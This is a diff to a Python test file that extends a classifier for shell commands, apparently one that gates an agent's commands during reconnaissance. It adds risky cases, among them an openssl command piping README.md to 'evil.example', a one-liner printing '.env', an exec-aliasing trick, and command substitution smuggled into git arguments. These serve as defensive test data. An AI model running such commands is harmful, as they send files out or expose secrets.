@@ -63,10 +63,23 @@ def test_effect_of_what_may_reach_out(command: str, effect: str):
         "cargo +other tree",
         "xmllint --noent a.xml",
         "xmllint -noent a.xml",
+        "git log $(git describe --tags)",
+        "git log $(git log -1 --format=%s)..HEAD",
+        "git log $(git merge-base a b)$x",
+        "git log $(git rev-parse --output=x)",
+        "gh api graphql -f query='query { a } mutation B { x }'",
+        "gh api graphql -f query=@x.graphql",
+        "openssl s_client -connect evil.example:443 < README.md",
+        "ssh-keygen -y -f x.pub",
+        "gcc -dM -E a.c",
+        "python3 -c 'print=exec; print(1)'",
+        "python3 -c 'n=1; print(open(n).read())'",
+        """python3 -c 'print(open(".env").read())'""",
+        """python3 -c 'open("a", "w")'""",
     ],
 )
-def test_what_may_show_or_send_secrets_is_confined(command: str):
-    assert judge(command, phase="recon").effect in ("unclear", "outside")
+def test_what_may_show_send_or_write_is_not_plain(command: str):
+    assert judge(command, phase="recon").effect != "reading"
 
 
 @pytest.mark.parametrize(
@@ -82,6 +95,18 @@ def test_what_may_show_or_send_secrets_is_confined(command: str):
         "go list ./...",
         "cargo tree",
         "xmllint --xpath //a a.xml",
+        "git log --oneline $(git describe --tags --abbrev=0)..HEAD",
+        'git log "$(git describe --tags --abbrev=0 2>/dev/null)..HEAD"',
+        "git diff --shortstat $(git merge-base origin/main HEAD)",
+        "base=$(git merge-base main HEAD); git diff $base",
+        "git log origin/main..$(git branch --show-current)",
+        "gh api graphql -f query='query { viewer { login } }'",
+        "ssh-keygen -lf ~/.ssh/id_ed25519.pub",
+        "gcc -dM -E - < /dev/null",
+        "rustc --explain E0308",
+        "aws logs tail /aws/lambda/x --since 1h",
+        "gcloud logging read 'severity>=ERROR' --limit 10",
+        "python3 -c 'x = 3; print(x * 4)'",
     ],
 )
 def test_reading_beside_what_may_hold_secrets(command: str):
